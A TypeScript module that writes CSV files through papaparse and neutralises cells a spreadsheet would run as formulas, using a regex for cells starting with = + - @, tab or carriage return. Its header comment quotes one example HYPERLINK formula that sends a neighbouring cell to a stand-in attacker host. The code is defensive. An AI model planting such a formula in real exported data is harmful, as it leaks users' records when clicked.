import Papa from 'papaparse'

/*
 * Every CSV file the app writes goes through here, because its cells carry text other people typed: a member's or
 * a walk-in guest's name, a club's name, a ledger description. A spreadsheet runs a cell that starts with = + - @,
 * a tab or a carriage return as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"Refund")` leaks the row
 * next to it when clicked), so such a cell is written with a leading apostrophe, which spreadsheets show as text.
 * Plain signed amounts ("-25.00") are numbers a spreadsheet must still add up, so they are left as they are.
 * Modules that import this pull in papaparse, so pages import them only when a file is asked for.
 */

/** A cell a spreadsheet would read as a formula: one that starts with = + - @, a tab or a carriage return, unless it is a plain number. */
export const FORMULA_START = /^(?![-+]?\d+(?:\.\d+)?$)[=+\-@\t\r]/

export type CsvCell = string | number

export interface CsvOptions {
  /** Columns always quoted (by index), so a reader sees text with commas as one cell even where it needs no quotes. */
  quotedColumns?: readonly boolean[]
}

/** Rows as CSV text (CRLF lines), with a header row when fields are given; cells that would run as formulas are neutralised. */
export function toCsv(fields: readonly string[] | null, data: ReadonlyArray<ReadonlyArray<CsvCell>>, options: CsvOptions = {}): string {
  const config = {
    newline: '\r\n',
    escapeFormulae: FORMULA_START,
    ...(options.quotedColumns ? { quotes: [...options.quotedColumns] } : {}),
  }
  const rows = data.map((row) => [...row])
  return fields ? Papa.unparse({ fields: [...fields], data: rows }, config) : Papa.unparse(rows, config)
}
